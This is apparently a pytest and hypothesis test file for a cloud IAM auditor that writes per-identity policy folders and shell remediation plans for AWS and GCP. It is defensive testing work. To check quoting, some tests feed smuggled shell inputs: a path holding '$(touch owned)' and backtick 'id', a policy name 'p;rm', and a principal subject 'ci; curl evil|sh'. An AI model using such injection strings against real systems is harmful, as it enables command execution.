"""The per-identity output layout and the plans in ``policies/index.json``, on frames (``FakeSource``).

Every identity gets its own folder ``policies/<provider>/<account>/<kind>/<name>/``; no two identities
may ever share a file, whatever their names (IAM compares names case-insensitively and lets a role and
a user share one; file systems may fold case), no folder may sit inside another identity's, and the
managed-policy names the plans create must not meet in IAM either. Every value that comes from the
input reaches the shell quoted, as ``--flag=value``.
"""

from __future__ import annotations

import itertools
import json
import shlex
from datetime import UTC, datetime
from typing import Any

import polars as pl
import yaml
from conftest import END, FakeSource, audit, grant, identity, use
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from auditor.catalog import Catalog
from auditor.emit.base import IdentityPolicies, all_policies, identity_folders
from auditor.emit.report_md import text
from auditor.emit.write import write_outputs

ACCOUNTS = ("123456789012", "210987654321")
IAM_CHARS = "abcxyzABCXYZ0129+=,.@_-"  # every kind of character an IAM role or user name may hold
GCP_CATALOG = Catalog(
    "gcp", {"compute.instances.get": "Read", "compute.instances.stop": "Write"}, "test", service_separator="."
)


def arn(account: str, kind: str, name: str, path: str = "/") -> str:
    return f"arn:aws:iam::{account}:{kind}{path}{name}"


def iam_names() -> st.SearchStrategy[str]:
    """IAM-valid names, biased to the ones that meet: x / X, x.2 / x-2 / x_2, 64 characters that differ at the end."""
    tricky = st.sampled_from(["x", "X", "x.2", "x-2", "x_2", "x-2-2", "a" * 64, "a" * 63 + "b", "A" * 64, "x@y", "x+y"])
    return st.one_of(tricky, st.text(IAM_CHARS, min_size=1, max_size=64))


@st.composite
def aws_identities(draw, as_iam_allows: bool = True) -> list[tuple[str, str, str, str]]:
    """(account, kind, name, path). IAM keeps names unique per (account, kind) case-insensitively; with
    ``as_iam_allows=False`` names may also differ only in case, or repeat under another IAM path (distinct
    ARNs an export from several sources could hold)."""
    out = []
    paths = st.sampled_from(["/", "/agents/", "/a/b/", "/A/B/"])
    for account in ACCOUNTS[: draw(st.integers(1, 2))]:
        for kind in ("role", "user"):
            if as_iam_allows:
                names = draw(st.lists(iam_names(), max_size=6, unique_by=str.casefold))
                out += [(account, kind, n, draw(paths)) for n in names]
            else:
                pairs = draw(st.lists(st.tuples(iam_names(), paths), max_size=8, unique=True))
                out += [(account, kind, n, p) for n, p in pairs]
    return out


@st.composite
def gcp_identities(draw) -> list[tuple[str, str]]:
    """(project the binding is in, service-account email): the same local part in several projects, accounts
    of one project bound in another, workload-identity principals. An identity is one row however many
    projects bind it (the core keeps the first), so emails are unique."""
    local = st.text("abcxyz019-", min_size=1, max_size=28).map(lambda s: f"a{s}z")
    out = set()
    for project in ("p1", "p2")[: draw(st.integers(1, 2))]:
        for _ in range(draw(st.integers(0, 5))):
            home = draw(st.sampled_from(["p1", "p2", "other-project"]))
            out.add((project, f"{draw(local)}@{home}.iam.gserviceaccount.com"))
        if draw(st.booleans()):
            subject = draw(st.text("abcXYZ-_.@", min_size=1, max_size=40))
            out.add(
                (
                    project,
                    f"principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/subject/{subject}",
                )
            )
    return sorted((project, email) for email, project in {e: p for p, e in sorted(out)}.items())


def sources(aws: list[tuple[str, str, str, str]], gcp: list[tuple[str, str]], dormant_every: int = 2) -> list[Any]:
    """Fake sources for the identities: every other one used something (a policy), the rest is dormant
    (deny-only file, exception)."""
    found: list[Any] = []
    if aws:
        idents, grants, uses = [], [], []
        for index, (account, kind, name, path) in enumerate(aws):
            who = arn(account, kind, name, path)
            idents.append(identity(who, account=account, kind=kind, name=name, path=path))
            grants.append(grant(who, "dynamodb:*", account=account))
            grants.append(
                grant(
                    who,
                    "dynamodb:DeleteTable",
                    effect="Deny",
                    account=account,
                    source=f"{who}/inline/d",
                    source_kind="inline",
                    policy="d",
                )
            )
            if index % dormant_every:
                uses.append(use(who, "dynamodb:DescribeTable", account=account))
        observability = [
            {"provider": "aws", "account": a, "identity": None, "actions": ["dynamodb:GetItem"], "reason": "t"}
            for a in {a for a, *_ in aws}
        ]
        found.append(FakeSource(idents, grants, uses, observability))
    if gcp:
        idents, grants, uses = [], [], []
        for index, (project, email) in enumerate(gcp):
            member = email if email.startswith("principal://") else f"serviceAccount:{email}"
            kind = "principal" if email.startswith("principal://") else "service_account"
            idents.append(
                identity(email, account=project, provider="gcp", kind=kind, name=email, path=None, member=member)
            )
            grants.append(
                grant(
                    email,
                    ["compute.instances.get", "compute.instances.stop"],
                    f"projects/{project}",
                    account=project,
                    provider="gcp",
                    source=f"roles/x on projects/{project}",
                    source_kind="binding",
                    policy="roles/x",
                    scope=f"projects/{project}",
                    member=member,
                )
            )
            if index % dormant_every:
                uses.append(use(email, "compute.instances.get", account=project, provider="gcp"))
        source = FakeSource(idents, grants, uses, catalog_of=GCP_CATALOG)
        source.provider = "gcp"
        found.append(source)
    return found


def check_layout(entries: list[IdentityPolicies]) -> None:
    folders = [e.folder.casefold() for e in entries]
    assert len(set(folders)) == len(folders), "two identities share a folder"
    files = [f.path.casefold() for e in entries for f in e.files]
    assert len(set(files)) == len(files), "two identities share a file"
    for entry in entries:
        assert all(
            f.path.startswith(entry.folder + "/") and "/" not in f.path[len(entry.folder) + 1 :] for f in entry.files
        )
        assert len(entry.folder.split("/")) == 5  # policies/<provider>/<account>/<kind>/<name>: one depth
        assert all(len(part.encode()) <= 255 for part in entry.folder.split("/"))
    # no identity's folder inside another's, and no file where another identity's folder goes
    owner = {e.folder.casefold(): e.identity for e in entries}
    owner.update({f.path.casefold(): e.identity for e in entries for f in e.files})
    every = sorted(owner)
    for index, shorter in enumerate(every):
        for longer in itertools.takewhile(lambda p, s=shorter: p.startswith(s), every[index + 1 :]):
            if longer.startswith(shorter + "/"):
                assert owner[longer] == owner[shorter], f"{longer} lies in the folder of another identity"


def created_policy_names(entries: list[IdentityPolicies]) -> dict[str, list[str]]:
    """Managed-policy names the plans create (apply and exceptions), per account."""
    names: dict[str, list[str]] = {}
    for entry in entries:
        for command in entry.apply + entry.exceptions:
            words = shlex.split(command)
            if words[:3] == ["aws", "iam", "create-policy"]:
                names.setdefault(entry.account, []).append(
                    next(w for w in words if w.startswith("--policy-name="))[14:]
                )
    return names


@settings(max_examples=150, deadline=None)
@given(aws_identities(as_iam_allows=False), gcp_identities())
def test_identity_folders_never_meet(aws, gcp):
    """The folder allocator alone, over many names (case-only differences, the same name under other IAM
    paths): unique case-insensitively, none inside another."""
    rows = [("aws", a, arn(a, k, n, p), k, n) for a, k, n, p in aws]
    rows += [
        ("gcp", p, e, "service_account", e.split("@", 1)[0] if e.endswith(f"@{p}.iam.gserviceaccount.com") else e)
        for p, e in gcp
    ]
    folders = identity_folders(rows)
    assert len(folders) == len(rows)
    check_layout([IdentityPolicies(p, a, i, i, folders[(p, i)]) for p, a, i, _, _ in rows])


@settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(aws_identities(), gcp_identities())
def test_no_two_identities_ever_share_an_output_path(aws, gcp):
    """Whole audits: every file each emitter writes (policy, deny-only, exception, role, condition, plan)."""
    if not aws and not gcp:
        return
    entries = all_policies(audit(*sources(aws, gcp)))
    assert len(entries) == len(aws) + len(gcp)
    check_layout(entries)
    for account, names in created_policy_names(entries).items():
        assert len({n.casefold() for n in names}) == len(names), (account, names)  # IAM folds case
        assert all(len(n) <= 128 for n in names)


def test_folders_follow_provider_account_kind_name():
    aws = [(ACCOUNTS[0], "role", "bot", "/agents/"), (ACCOUNTS[0], "user", "bot", "/")]
    gcp = [("p1", "ops@p1.iam.gserviceaccount.com"), ("p1", "ops@p2.iam.gserviceaccount.com")]
    entries = {e.identity: e for e in all_policies(audit(*sources(aws, gcp, dormant_every=1)))}
    assert entries[arn(ACCOUNTS[0], "role", "bot", "/agents/")].folder == f"policies/aws/{ACCOUNTS[0]}/role/bot"
    assert entries[arn(ACCOUNTS[0], "user", "bot")].folder == f"policies/aws/{ACCOUNTS[0]}/user/bot"
    assert entries["ops@p1.iam.gserviceaccount.com"].folder == "policies/gcp/p1/service_account/ops"
    other = entries["ops@p2.iam.gserviceaccount.com"].folder  # bound in p1, from another project: its full email
    assert other.startswith("policies/gcp/p1/service_account/ops@p2.iam.gserviceaccount.com")


# ----------------------------------------------------------------------------- AWS plans

BOT = arn(ACCOUNTS[0], "role", "bot")


def aws_entry(source: FakeSource, **options: Any) -> IdentityPolicies:
    (entry,) = [e for e in all_policies(audit(source, **options)) if e.identity == source.identity_rows[0]["identity"]]
    return entry


def test_a_dormant_role_keeps_its_denies_and_gets_an_exception_for_what_logs_cannot_show():
    source = FakeSource(
        [identity(BOT)],
        [
            grant(
                BOT, ["dynamodb:*"], source=f"arn:aws:iam::{ACCOUNTS[0]}:policy/Wide", source_kind="customer-managed"
            ),
            grant(
                BOT,
                "dynamodb:DeleteTable",
                effect="Deny",
                source=f"{BOT}/inline/guard",
                source_kind="inline",
                policy="guard",
            ),
        ],
        observability_rows=[
            {
                "provider": "aws",
                "account": ACCOUNTS[0],
                "identity": None,
                "actions": ["dynamodb:GetItem"],
                "reason": "data events",
            }
        ],
    )
    entry = aws_entry(source)
    folder = f"policies/aws/{ACCOUNTS[0]}/role/bot"
    expected = [f"{folder}/denies.json", f"{folder}/exception.json", f"{folder}/deny.json"]  # + the blocklist's deny
    assert entry.dormant and [f.path for f in entry.files] == expected
    denies, exception, _ = (json.loads(f.content) for f in entry.files)
    assert [s["Effect"] for s in denies["Statement"]] == ["Deny"]
    assert {a for s in exception["Statement"] if s["Effect"] == "Allow" for a in s["Action"]} == {"dynamodb:GetItem"}
    assert entry.kept_unobservable == [{"permission": "dynamodb:GetItem", "reason": "data events"}]
    assert any(
        c.startswith("aws iam detach-role-policy --role-name=bot --policy-arn=") and "Wide" in c for c in entry.apply
    )
    assert "aws iam delete-role-policy --role-name=bot --policy-name=guard" in entry.apply
    assert all("exception" not in c for c in entry.apply) and any("exception.json" in c for c in entry.exceptions)
    assert "removes every grant" in entry.note


def test_a_dormant_user_loses_its_access_keys_too():
    user = arn(ACCOUNTS[0], "user", "bot")
    entry = aws_entry(FakeSource([identity(user, kind="user")], [grant(user, "sqs:*")]))
    assert entry.dormant
    assert any("update-access-key --user-name=bot --status=Inactive" in c for c in entry.apply)


def test_a_rerun_versions_the_policy_the_previous_run_created():
    ours = f"arn:aws:iam::{ACCOUNTS[0]}:policy/auditor-role-bot"
    source = FakeSource(
        [identity(BOT)],
        [
            grant(BOT, "dynamodb:*", source=f"arn:aws:iam::{ACCOUNTS[0]}:policy/Wide", source_kind="customer-managed"),
            grant(BOT, "dynamodb:DescribeTable", source=ours, source_kind="customer-managed"),
        ],
        [use(BOT, "dynamodb:DescribeTable")],
        managed_rows=[
            {
                "provider": "aws",
                "account": ACCOUNTS[0],
                "kind": "policy",
                "name": "auditor-role-bot",
                "id": ours,
                "path": "/",
                "versions": ["v1", "v2", "v3", "v4", "v5"],
                "default_version": "v5",
            },
        ],
    )
    entry = aws_entry(source)
    assert entry.apply[0] == f"aws iam delete-policy-version --policy-arn={ours} --version-id=v1"  # all five used
    assert entry.apply[1].startswith(f"aws iam create-policy-version --policy-arn={ours} --policy-document=file://")
    assert entry.apply[1].endswith(" --set-as-default")
    assert not any("create-policy " in c for c in entry.apply)
    assert f"aws iam attach-role-policy --role-name=bot --policy-arn={ours}" in entry.apply
    assert not any("detach" in c and ours in c for c in entry.apply)  # ours stays, the wide one goes
    assert any("detach-role-policy" in c and "Wide" in c for c in entry.apply)


def test_every_input_value_reaches_the_shell_quoted_as_flag_equals_value():
    path = "/$(touch owned)/`id`;'\"/"  # an IAM path may hold any printable ASCII
    who = arn(ACCOUNTS[0], "role", "-bot", path)
    source = FakeSource(
        [identity(who, name="-bot", path=path)],
        [grant(who, "dynamodb:*", source=f"{who}/inline/p;rm", source_kind="inline", policy="p;rm")],
        [use(who, "dynamodb:DescribeTable")],
    )
    entry = aws_entry(source)
    for command in entry.apply:
        words = shlex.split(command)
        assert words[:2] == ["aws", "iam"] and all(w.startswith("--") for w in words[3:]), command
        assert shlex.join(words) == command  # nothing outside quotes: no word splitting, no substitution
    create, attach, delete = (shlex.split(c) for c in entry.apply)
    assert create[3:5] == ["--policy-name=auditor-role--bot", f"--path={path}"]
    assert attach[3:] == ["--role-name=-bot", f"--policy-arn=arn:aws:iam::{ACCOUNTS[0]}:policy{path}auditor-role--bot"]
    assert delete[3:] == ["--role-name=-bot", "--policy-name=p;rm"]


def test_gcp_commands_quote_a_principal_subject():
    subject = "ci; curl evil|sh"
    who = f"principal://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/p/subject/{subject}"
    source = sources([], [("p1", who)], dormant_every=1)[0]
    (entry,) = all_policies(audit(source))
    for command in entry.apply:
        assert shlex.join(shlex.split(command)) == command
        assert f"--member={who}" in shlex.split(command) or "--member" not in command


# ----------------------------------------------------------------------------- reports


def test_report_and_blocklist_of_a_small_audit(tmp_path):
    source = FakeSource(
        [identity(BOT, name="bot_*[x](y)")],
        [grant(BOT, ["dynamodb:DeleteTable", "dynamodb:DescribeTable", "dynamodb:DeleteBackup", "dynamodb:GetItem"])],
        [use(BOT, "dynamodb:DescribeTable"), use(BOT, "dynamodb:DeleteTable", outcome="denied")],
        [
            {
                "provider": "aws",
                "account": ACCOUNTS[0],
                "identity": None,
                "actions": ["dynamodb:GetItem"],
                "reason": "data",
            }
        ],
    )
    result = audit(source)
    document = write_outputs(result, tmp_path / "out")
    (bot,) = document["identities"]
    assert document["windows"]["aws"] == {
        "start": "2026-10-21T12:00:00Z",
        "end": "2026-11-20T12:00:00Z",
        "days": 30,
        "basis": "fake newest event (2026-11-20T12:00:00Z)",
    }
    assert bot["policy_folder"] == f"policies/aws/{ACCOUNTS[0]}/role/bot__x_y"  # characters a file name cannot hold
    assert bot["apply_commands"] and bot["dormant"] is False and bot["exception_commands"] == []
    blocklist = yaml.safe_load((tmp_path / "out" / "blocklist.yaml").read_text())
    (entry,) = blocklist["identities"]
    denied = {p for group in entry["deny"] for p in group["permissions"]}
    assert {"dynamodb:DeleteTable", "dynamodb:DeleteBackup"} <= denied  # refused only, or never used: blocked
    assert "dynamodb:DeleteTable" not in {a["permission"] for a in entry["require_approval"]}
    assert blocklist["windows"]["aws"]["end"] == "2026-11-20T12:00:00Z"
    markdown = (tmp_path / "out" / "report.md").read_text()
    prose = "".join(markdown.split("```")[::2])  # outside fenced code blocks (where nothing is Markdown)
    assert text("bot_*[x](y)") in prose and "bot_*[x](y)" not in prose  # input text is inert Markdown
    parquet = pl.read_parquet(tmp_path / "out" / "permissions.parquet")
    assert parquet.equals(result.permissions)


def test_outputs_of_an_audit_at_another_time_name_their_window():
    later = datetime(2026, 12, 1, tzinfo=UTC)
    source = FakeSource(
        [identity(BOT)], [grant(BOT, "sqs:ListQueues")], [use(BOT, "sqs:ListQueues", when=later)], newest=later
    )
    result = audit(source, now=later, days=7)
    window = result.window("aws")
    assert (window.start, window.end) == (datetime(2026, 11, 24, tzinfo=UTC), later)
    assert window.start > END  # the default "now" of the tests does not leak in


ITEMS = st.none() | st.text(alphabet='ab;:"\\n é', max_size=4)


@given(st.lists(st.none() | st.lists(ITEMS, max_size=3), min_size=1, max_size=30))
@settings(max_examples=200, deadline=None)
def test_the_csv_joins_list_columns_exactly_as_list_join_does(values):
    from auditor.emit.write import joined

    frame = pl.DataFrame({"items": values}, schema={"items": pl.List(pl.Utf8)})
    assert frame.select(joined("items")).equals(frame.select(pl.col("items").list.join(";")), null_equal=True)
